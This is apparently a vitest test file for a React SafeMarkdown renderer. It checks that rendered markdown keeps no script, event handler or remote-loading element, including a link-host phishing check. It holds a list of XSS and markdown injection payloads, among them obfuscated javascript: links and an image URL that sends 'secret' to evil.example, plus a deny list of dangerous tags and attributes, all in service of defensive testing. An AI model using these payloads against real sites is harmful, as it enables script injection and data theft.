import { render, screen } from '@testing-library/react';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { renderInApp } from '../../testing/render.tsx';
import SafeMarkdown from './safe-markdown.tsx';

const forbidden =
  'img, script, iframe, object, embed, video, audio, source, link, style, svg, form, base, meta';
const loading = new Set(['src', 'srcset', 'srcdoc', 'action', 'formaction', 'poster', 'background', 'ping']);

/** What could reach out of the text, or run in it; the copy buttons are ours and not the text's. */
function dangersOf(text: string, streaming = false): string[] {
  const { container, unmount } = renderInApp(
    <div data-text="">
      <SafeMarkdown text={text} unfinished={streaming} />
    </div>,
  );
  const found = [...container.querySelectorAll('[data-text] *:not(button, button *)')].flatMap(dangersIn);
  unmount();
  return found;
}

function dangersIn(element: Element): string[] {
  const bad = [...element.attributes].filter(({ name, value }) => {
    if (name === 'href') return element.tagName !== 'A' || !/^(https?:|mailto:)/i.test(value);
    if (name === 'style') return !/^text-align: (left|center|right);$/.test(value);
    return /^on/.test(name) || loading.has(name);
  });
  return [
    ...(element.matches(forbidden) ? [element.tagName] : []),
    ...bad.map(({ name, value }) => `${name}=${value}`),
  ];
}

const hostile = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<svg onload=alert(1)><circle/></svg>',
  '<style>body{background:url(https://evil.example)}</style>',
  '<base href="https://evil.example/">',
  '![pixel](https://evil.example/p.png?d=secret)',
  '![a][r]\n\n[r]: https://evil.example/p.png',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD4=)',
  '[click](vbscript:x)',
  '[click](//evil.example)',
  '[click](/api/auth/sign-out)',
  '[click](#top)',
  '<https://example.com/>',
  '[![nested](https://evil.example/p.png)](javascript:alert(1))',
  '| <img src=x> | ![p](http://e.x/p) |\n| - | - |\n| <b onclick=x> | [l](javascript:x) |',
  '```html\n<script>alert(1)</script>\n```',
  'Text[^1]\n\n[^1]: <img src=x> ![p](http://e.x/p)',
];

describe('SafeMarkdown', () => {
  it.each(hostile)('renders %j without anything that runs or loads', (text) => {
    expect(dangersOf(text)).toEqual([]);
  });

  it('renders any mixture of fragments, at any moment of its growth, without anything that runs or loads', () => {
    const words = fc.string({ unit: fc.constantFrom(...'ab <>"\'=/:[]()!`*_|#-\n\t&;\\'), maxLength: 12 });
    const pieces = fc.array(fc.oneof(fc.constantFrom(...hostile), words), { minLength: 1, maxLength: 6 });
    fc.assert(
      fc.property(
        pieces,
        fc.double({ min: 0, max: 1, noNaN: true }),
        fc.boolean(),
        (parts, share, streaming) => {
          const text = parts.join('');
          expect(dangersOf(text.slice(0, Math.ceil(text.length * share)), streaming)).toEqual([]);
        },
      ),
      { numRuns: 150 },
    );
  });

  it('shows where a link leads and takes nothing along', () => {
    renderInApp(<SafeMarkdown text="[your bank](https://evil.example/login)" />);
    const link = screen.getByRole('link', { name: /your bank ?\(evil\.example\)/ });
    expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(link.getAttribute('target')).toBe('_blank');
  });

  it('shows the host of a link whose text pretends to be another address', () => {
    renderInApp(<SafeMarkdown text="[https://bank.example](https://bank.example@evil.example)" />);
    expect(screen.getByRole('link').textContent).toContain('(evil.example)');
  });

  it('does not repeat the address of a link that says it', () => {
    renderInApp(<SafeMarkdown text="See https://example.com/a for more" />);
    expect(screen.getByRole('link').textContent).toBe('https://example.com/a (opens a new tab)');
  });

  it('turns an image into a link with its description', () => {
    renderInApp(<SafeMarkdown text="![a cat](https://cats.example/1.png)" />);
    expect(screen.getByRole('link', { name: /a cat ?\(cats\.example\)/ })).toBeTruthy();
  });

  it('shows raw HTML as the text it is', () => {
    const { container } = renderInApp(<SafeMarkdown text="<b>bold?</b>" />);
    expect(container.textContent).toContain('<b>bold?</b>');
  });

  it('renders tables that scroll and code that can be copied', () => {
    renderInApp(<SafeMarkdown text={'| a |\n| - |\n| 1 |\n\n```ts\nconst a = 1;\n```'} />);
    expect(screen.getByRole('region', { name: 'Table' }).querySelector('td')?.textContent).toBe('1');
    expect(screen.getByText('ts')).toBeTruthy();
    expect(screen.getByRole('button', { name: 'Copy code' })).toBeTruthy();
  });

  it('renders block by block what it renders in one piece', () => {
    const text = '# Title\n\nText with **bold**.\n\n- a\n- b\n\n1. one\n\n2. two\n\nEnd.';
    const { container: whole } = render(<SafeMarkdown text={text} />);
    const markup = whole.innerHTML.replaceAll('\n', '');
    expect(markup).toContain('<h2>Title</h2><p>Text with <strong>bold</strong>.</p><ul>');
    expect(markup).toMatch(/<ol><li><p>one<\/p><\/li><li><p>two<\/p><\/li><\/ol><p>End\.<\/p>$/);
  });
});
